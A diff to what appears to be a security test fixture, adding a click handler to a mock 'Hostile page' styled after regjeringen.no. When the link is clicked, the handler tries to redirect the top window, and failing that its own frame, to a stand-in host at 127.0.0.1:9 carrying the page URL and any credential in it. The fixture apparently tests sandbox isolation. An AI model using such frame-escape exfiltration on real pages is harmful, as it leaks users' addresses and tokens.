@@ -62,6 +62,19 @@ HOSTILE = """<!DOCTYPE html><html lang="en"><head><meta charset="utf-8">
 <title>Hostile page - regjeringen.no</title></head><body>
 <main id="mainContent"><header class="article-header"><h1>Hostile page</h1></header>
 <p id="probe">script did not run</p>
+<p><a id="exfil" href="/en/ferry/">Read about the ferry</a></p><p id="clicked"></p>
+<script>
+// One click: send the viewer's window, or failing that this frame, to the
+// attacker with this document's own address (and whatever credential it holds).
+document.getElementById("exfil").addEventListener("click", function (event) {
+  event.preventDefault();
+  document.getElementById("clicked").textContent = "clicked";
+  console.log("hostile click handler ran");
+  var leak = "http://127.0.0.1:9/exfil?u=" + encodeURIComponent(location.href);
+  try { top.location.href = leak + "&via=top"; } catch (e) { /* refused */ }
+  setTimeout(function () { location.href = leak + "&via=self"; }, 200);
+});
+</script>
 <script>
 var results = [];
 function attempt(name, fn) {
